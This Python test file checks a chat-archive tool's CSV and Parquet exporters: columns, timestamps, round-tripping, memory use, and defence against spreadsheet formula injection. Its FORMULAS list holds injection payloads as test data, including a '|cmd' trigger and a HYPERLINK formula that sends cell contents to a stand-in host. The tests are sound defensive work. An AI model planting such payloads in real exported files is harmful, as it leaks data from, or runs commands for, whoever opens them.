"""Tables for analysts: what is written is read back whole, and no cell is a formula."""

import csv
import io
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from importlib import import_module
from pathlib import Path
from typing import Any, Final

import pytest
from archive_checks import chat, common, say
from hypothesis import given, settings
from hypothesis import strategies as st
from strategies import archives

from wamigrate.errors import OptionError
from wamigrate.formats import configure, find_exporter
from wamigrate.message_rows import MessageRow, message_rows
from wamigrate.model import Archive, Attachment, Conversation, Message
from wamigrate.notes import Notes
from wamigrate.target import MemoryTarget, StreamTarget

DOCS: Final = Path(__file__).resolve().parent.parent / "docs" / "tables.md"
parquet: Final[Any] = import_module("pyarrow.parquet")
DANGEROUS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULAS: Final = (
    "=1+1",
    "+1",
    "-1+1|cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    '=HYPERLINK("http://example.org?"&A1)',
    "'=1",
)


def export(to: str, archive: Archive, **options: str) -> bytes:
    with MemoryTarget() as target:
        exporter = configure(find_exporter(to), options)
        exporter.export(iter(archive.conversations), target, Notes())
    return target.files[""]


def cells(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    """Read a table as the documentation tells programs to."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def bare(cell: str) -> str:
    return cell.removeprefix("'")


def rows(archive: Archive) -> list[MessageRow]:
    return [row for found in archive.conversations for row in message_rows(found)]


def talk(*texts: str) -> Archive:
    return chat(*(say(text, time="2025-03-25T21:04") for text in texts))


# --- columns


def test_both_tables_have_the_documented_columns() -> None:
    lines = re.findall(r"^\| `(\w+)` \|(.*?)\|(.*?)\|", DOCS.read_text(encoding="utf-8"), re.MULTILINE)
    named = [(name, in_csv.strip(), in_parquet.strip()) for name, in_csv, in_parquet in lines]
    table = cells(export("csv", common()))
    assert list(table[0]) == [name for name, in_csv, _ in named if in_csv]
    schema = parquet.read_schema(io.BytesIO(export("parquet", common())))
    assert schema.names == [name for name, _, in_parquet in named if in_parquet]
    types = {name: type_ for name, _, type_ in named}
    for column in schema:
        word = types[column.name].split("[")[0].split(" ")[0]
        assert str(column.type).startswith(word)


def test_times_are_wall_clocks_and_moments_are_in_utc() -> None:
    local = datetime(2025, 3, 25, 21, 4, tzinfo=timezone(timedelta(hours=1)))
    wall = datetime(2025, 3, 25, 21, 4)  # noqa: DTZ001 - a wall clock
    times = (wall, local, None, datetime.min.replace(tzinfo=local.tzinfo))
    archive = chat(*(Message(str(at), "user", None, time, "text", "") for at, time in enumerate(times)))
    table = [(row["timestamp"], row["timestamp_utc"]) for row in cells(export("csv", archive))]
    assert table == [
        ("2025-03-25 21:04:00", ""),
        ("2025-03-25 21:04:00", "2025-03-25 20:04:00"),
        ("", ""),
        ("0001-01-01 00:00:00", ""),
    ]
    columns = parquet.read_table(io.BytesIO(export("parquet", archive))).to_pydict()
    assert columns["timestamp"][:3] == [wall, wall, None]
    assert columns["timestamp_utc"][:3] == [None, datetime(2025, 3, 25, 20, 4, tzinfo=UTC), None]


# --- CSV


@given(archive=archives())
def test_any_csv_is_read_back_whole(archive: Archive) -> None:
    for options in ({}, {"raw": "true", "bom": "false", "delimiter": "tab"}):
        guarded = not options
        table = cells(export("csv", archive, **options), "," if guarded else "\t")
        expected = rows(archive)
        assert len(table) == len(expected)
        for row, known in zip(table, expected, strict=True):
            found = {key: bare(cell) if guarded else cell for key, cell in row.items()}
            assert found["text"] == known.text
            assert found["title"] == (known.title or "")
            assert found["author"] == (known.author or "")
            assert found["files"] == " | ".join(file.name or "" for file in known.attachments)
            assert (found["role"], found["kind"], found["message_id"]) == (
                known.role,
                known.kind,
                known.message_id,
            )
            assert (int(found["words"]), int(found["characters"])) == (known.words, known.characters)


def hostile() -> st.SearchStrategy[str]:
    return st.builds(str.__add__, st.sampled_from((*FORMULAS, *DANGEROUS, "'")), st.text(max_size=5))


@given(text=hostile(), name=hostile(), title=hostile(), file=hostile())
def test_no_cell_is_ever_a_formula(text: str, name: str, title: str, file: str) -> None:
    message = Message(
        "=id",
        "user",
        name,
        None,
        "text",
        text,
        attachments=(Attachment(file, "=type"),),
        reply_to="=m",
        flags=("=flag",),
    )
    found = Conversation("=c", title, "=s", (), None, None, (message,), "=source")
    data = export("csv", Archive("wamigrate/1", common().generator, (), (found,)))
    (row,) = csv.reader(io.StringIO(data.decode("utf-8-sig").partition("\r\n")[2], newline=""))
    assert not [cell for cell in row if cell.startswith(DANGEROUS)]


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_a_formula_is_led_by_an_apostrophe_that_can_be_taken_off(formula: str) -> None:
    (row,) = cells(export("csv", talk(formula)))
    assert row["text"] == f"'{formula}"
    (row,) = cells(export("csv", talk(formula), raw="true"))
    assert row["text"] == formula


def test_ordinary_text_stays_as_it_is() -> None:
    texts = ["How long?", "1+1=2", "a\r\nb", 'He said "no", twice', "", " =1", "5 > 3", "\0", "\u2028"]
    assert [row["text"] for row in cells(export("csv", talk(*texts)))] == texts


def test_lines_end_and_quotes_stand_as_rfc_4180_has_them() -> None:
    data = export("csv", talk('a "b"\nc'), bom="false")
    assert data.endswith(b"\r\n")
    assert b',"a ""b""\nc",' in data
    assert data.count(b"\r\n") == 2


def test_a_byte_order_mark_and_the_delimiter_are_as_wished() -> None:
    assert export("csv", common()).startswith(b"\xef\xbb\xbfconversation_id,title,")
    assert export("csv", common(), bom="false", delimiter="semicolon").startswith(b"conversation_id;title;")


# --- Parquet


@settings(max_examples=40, deadline=None)
@given(archive=archives())
def test_any_parquet_is_read_back_whole(archive: Archive) -> None:
    table = parquet.read_table(io.BytesIO(export("parquet", archive))).to_pylist()
    for found, known in zip(table, rows(archive), strict=True):
        for name in MessageRow._fields:
            expected = getattr(known, name)
            if name == "attachments":
                keys = ("name", "media_type", "size", "sha256", "member", "present", "caption")
                expected = [{key: getattr(file, key) for key in keys} for file in expected]
            elif name == "flags":
                expected = list(expected)
            elif name == "timestamp_utc" and expected is not None:
                expected = expected.replace(tzinfo=UTC)
            assert found[name] == expected


def test_long_histories_come_in_row_groups() -> None:
    (found,) = talk(*(f"message {number}" for number in range(500))).conversations
    archive = Archive("wamigrate/1", common().generator, (), (found,) * 90)
    metadata = parquet.read_metadata(io.BytesIO(export("parquet", archive)))
    assert [metadata.row_group(at).num_rows for at in range(metadata.num_row_groups)] == [
        20_000,
        20_000,
        5_000,
    ]
    heavy = talk(*(f"{number} {'x' * 6_000_000}" for number in range(4)))
    assert parquet.read_metadata(io.BytesIO(export("parquet", heavy))).num_row_groups == 2


def test_a_history_without_messages_is_a_table_without_rows() -> None:
    empty = Archive("wamigrate/1", common().generator, (), ())
    assert parquet.read_table(io.BytesIO(export("parquet", empty))).num_rows == 0
    assert cells(export("csv", empty)) == []


def test_without_its_library_parquet_says_what_brings_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "pyarrow.parquet", None)
    with pytest.raises(
        OptionError, match=re.escape("--to parquet: needs pyarrow; pip install 'wamigrate[parquet]'")
    ):
        export("parquet", common())


# --- both


@pytest.mark.parametrize("to", ["csv", "parquet"])
def test_it_can_go_to_standard_output(to: str) -> None:
    stream = io.BytesIO()
    with StreamTarget(stream) as target:
        find_exporter(to).export(iter(common().conversations), target, Notes())
    assert stream.getvalue() == export(to, common())


@pytest.mark.parametrize(("to", "most"), [("csv", 3), ("parquet", 3), ("sqlite", 3)])
def test_rows_are_written_as_they_come(to: str, most: int) -> None:
    """Fifty million characters go through a few megabytes of Python's memory."""

    class Sink(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data: Any) -> int:
            return len(data)

    def stream() -> Iterator[Conversation]:
        for number in range(200):
            messages = (Message(f"{number}", "user", "Ana", None, "text", f"{number} {'x' * 990} " * 250),)
            yield Conversation(f"c{number}", None, None, (), None, None, messages, "s")

    find_exporter(to)
    tracemalloc.start()
    with StreamTarget(Sink()) as target:  # type: ignore[arg-type] # all that is asked of it is to take bytes
        find_exporter(to).export(stream(), target, Notes())
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < (most << 20) + (40 << 20 if to == "parquet" else 0)
